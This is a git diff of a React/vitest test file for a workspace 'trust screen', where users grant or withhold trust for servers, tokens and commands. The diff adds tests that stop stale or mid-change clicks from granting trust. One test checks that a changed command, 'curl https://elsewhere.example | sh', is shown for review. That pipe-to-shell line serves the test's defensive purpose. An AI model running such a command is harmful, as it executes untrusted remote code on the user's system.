@@ -1,61 +1,38 @@
 import type { TrustReview, WorkspaceId } from '@contract'
-import { cleanup, fireEvent, render, screen, within } from '@testing-library/react'
+import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react'
 import { afterEach, describe, expect, it } from 'vitest'
-import { createFake } from '../../../bridge/fake.ts'
-import { createLink } from '../../../bridge/index.ts'
-import { type Desk, DeskProvider, openWorkspaceAtNewest, verbs } from '../../../commands/index.ts'
-import { createStores, words } from '../../../state/index.ts'
-import { TooltipProvider } from '../../../ui/index.ts'
+import { readTrust, verbs } from '../../../commands/index.ts'
+import { words } from '../../../state/index.ts'
+import { acme, draw, later, launch, openDesk, radar } from '../../testing.tsx'
 import { TrustSection } from './trust-section.tsx'
 
-const acme = 'ws_acme000001' as WorkspaceId
-const launch = 'ws_launch0001' as WorkspaceId
-const radar = 'ws_radar00001' as WorkspaceId
 const say = words.trustScreen.trust
 
 afterEach(cleanup)
 
 async function show(workspaceId: WorkspaceId) {
-  const fake = createFake({ scenario: 'busy' })
-  const stores = createStores()
-  const asked: string[] = []
-  const desk: Desk = {
-    stores,
-    link: createLink(fake, stores, { request: (work) => work() }),
-    ports: {
-      focusPane: (pane) => void asked.push(pane),
-      nextPane() {},
-      resetLayout() {},
-      focusComposer() {},
-      focusList() {},
-    },
-  }
-  await Promise.all([desk.link.load.product(), desk.link.load.workspaces()])
+  const opened = await openDesk({ workspaceId })
+  const { fake, desk, inputs } = opened
   await desk.link.watchWorkspace(workspaceId)
-  await openWorkspaceAtNewest(desk, workspaceId)
   await verbs.reviewTrust.run(desk)
-  render(
-    <DeskProvider desk={desk}>
-      <TooltipProvider>
-        <TrustSection workspaceId={workspaceId} visible />
-      </TooltipProvider>
-    </DeskProvider>,
-  )
+  draw(desk, <TrustSection workspaceId={workspaceId} visible />)
   await screen.findAllByRole('checkbox')
-  const granted = () =>
-    fake.calls
-      .filter(({ name }) => name === 'trust.grant')
-      .map(({ input }) => input as { keys: string[]; digest: string })
+  const granted = () => inputs('trust.grant') as { keys: string[]; digest: string }[]
   const reviewOf = async () => {
     const reply = await fake.call('trust.review', { workspaceId })
     if (!reply.ok) throw new Error(reply.fault.message)
     return reply.value
   }
-  return { fake, stores, desk, asked, granted, reviewOf }
+  return { ...opened, granted, reviewOf }
 }
 
 const tick = (name: RegExp | string) => screen.getByRole<HTMLInputElement>('checkbox', { name })
 const press = (name: RegExp | string) => fireEvent.click(screen.getByRole('button', { name }))
+/** What is shown stands for a moment before it can be granted. */
+async function grant(name: string): Promise<void> {
+  await waitFor(() => expect(screen.getByRole('button', { name }).getAttribute('aria-disabled')).toBeNull())
+  press(name)
+}
 const asReply = (value: TrustReview) => ({ ok: true as const, value })
 
 describe('the trust screen of a folder that is not trusted', () => {
@@ -96,7 +73,7 @@ describe('the trust screen of a folder that is not trusted', () => {
     const { digest } = await reviewOf()
     fireEvent.click(tick('Server tracker'))
     fireEvent.click(tick('ACME_TOKEN'))
-    press(say.grant(4, 7))
+    await grant(say.grant(4, 7))
     expect(await screen.findByText(say.trusted)).toBeTruthy()
     const keys = ['server:billing', 'app:delivery-plan', 'env:server billing:ACME_TOKEN', 'command:release']
     expect(granted()).toEqual([{ workspaceId: acme, digest, keys }])
@@ -127,15 +104,46 @@ describe('the trust screen of a folder that is not trusted', () => {
       ok: false,
       fault: { owner: 'operator', code: 'trust_changed', message: 'It changed.', retry: 'now' },
     }))
-    press(say.grant(5, 7))
+    await grant(say.grant(5, 7))
     expect((await screen.findByRole('alert')).textContent).toContain(say.reread)
     expect(screen.getByText('curl https://elsewhere.example | sh')).toBeTruthy()
     expect(screen.getByText(say.rereadMark)).toBeTruthy()
     expect(tick('Server billing').checked).toBe(false)
     expect(tick('ACME_TOKEN').checked).toBe(true)
-    press(say.grant(4, 7))
+    await grant(say.grant(4, 7))
     expect(granted().at(-1)?.digest).toBe('another')
     expect(granted().at(-1)?.keys).not.toContain('server:billing')
+  })
+
+  it('keeps the newer of two answers, whichever comes first', async () => {
+    const { fake, desk, reviewOf } = await show(acme)
+    const now = await reviewOf()
+    const late = later<ReturnType<typeof asReply>>()
+    fake.answer('trust.review', () => late.promise)
+    const older = readTrust(desk, acme)
+    const newer = { ...now, path: '/moved', digest: 'newer' }
+    fake.answer('trust.review', () => asReply(newer))
+    await act(() => readTrust(desk, acme))
+    late.resolve(asReply(now))
+    await act(() => older)
+    expect(screen.getByText('/moved')).toBeTruthy()
+  })
+
+  it('does not grant by a click that was under way when something else came on screen', async () => {
+    const { fake, desk, reviewOf, granted } = await show(acme)
+    const now = await reviewOf()
+    await waitFor(() =>
+      expect(screen.getByRole('button', { name: say.grant(4, 7) }).ariaDisabled ?? null).toBeNull(),
+    )
+    const items = now.items.map((item) =>
+      item.key === 'server:billing' ? { ...item, lines: ['another'] } : item,
+    )
+    fake.answer('trust.review', () => asReply({ ...now, items, digest: 'another' }))
+    await act(() => readTrust(desk, acme))
+    press(say.grant(3, 7))
+    expect(granted()).toEqual([])
+    await grant(say.grant(3, 7))
+    expect(granted()).toHaveLength(1)
   })
 
   it('says why it could not be granted, and keeps the ticks', async () => {
@@ -144,7 +152,7 @@ describe('the trust screen of a folder that is not trusted', () => {
       ok: false,
       fault: { owner: 'store', code: 'read_only', message: 'The store does not write.', retry: 'later' },
     }))
-    press(say.grant(4, 7))
+    await grant(say.grant(4, 7))
     expect((await screen.findByRole('alert')).textContent).toContain('The store does not write.')
     expect(tick('Server billing').checked).toBe(true)
   })
@@ -166,7 +174,7 @@ describe('the trust screen of a folder in which something changed', () => {
 
   it('trusts the changes and what was trusted before, and not what is left out', async () => {
     const { granted } = await show(radar)
-    press(say.grantChanges(1))
+    await grant(say.grantChanges(1))
     expect(await screen.findByText(say.trusted)).toBeTruthy()
     expect(granted()[0]?.keys).toEqual(['server:feeds', 'server:archive', 'command:digest'])
   })
@@ -178,7 +186,7 @@ describe('the trust screen of a trusted folder', () => {
     const save = screen.getByRole('button', { name: say.save(5, 5) })
     expect(save.getAttribute('aria-disabled')).toBe('true')
     fireEvent.click(tick('CRM_TOKEN'))
-    press(say.save(4, 5))
+    await grant(say.save(4, 5))
     expect(await screen.findByText(say.notGiven)).toBeTruthy()
     expect(granted()[0]?.keys).not.toContain('env:server crm:CRM_TOKEN')
   })
